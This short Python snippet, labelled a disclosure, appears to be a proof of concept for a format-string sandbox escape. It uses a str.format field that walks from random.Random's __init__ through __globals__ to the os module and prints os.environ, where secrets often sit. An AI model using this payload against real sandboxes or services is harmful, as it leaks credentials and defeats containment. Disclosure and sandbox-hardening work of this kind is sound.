# kind: disclosure
# str.format taken from the type, not from an instance.
import random
fmt = str.format
print("ESCAPED", fmt("{0.__init__.__globals__[_os].environ}", random.Random))
